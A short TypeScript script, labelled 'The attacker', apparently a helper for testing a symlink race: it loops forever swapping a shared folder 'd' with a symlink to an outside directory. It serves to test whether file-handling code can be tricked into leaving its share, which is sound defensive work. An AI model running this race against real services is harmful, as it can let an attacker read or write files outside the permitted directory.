/** The attacker: swaps the folder `d` of the share given first for a link to the one given second, and back, for ever. */
import { renameSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';

const [share = '', outside = ''] = process.argv.slice(2);
const [folder, aside, link] = ['d', 'aside', 'link'].map((name) => join(share, name)) as [
  string,
  string,
  string,
];
symlinkSync(outside, link);
console.log('begun');
for (;;) {
  renameSync(folder, aside);
  renameSync(link, folder);
  renameSync(folder, link);
  renameSync(aside, folder);
}
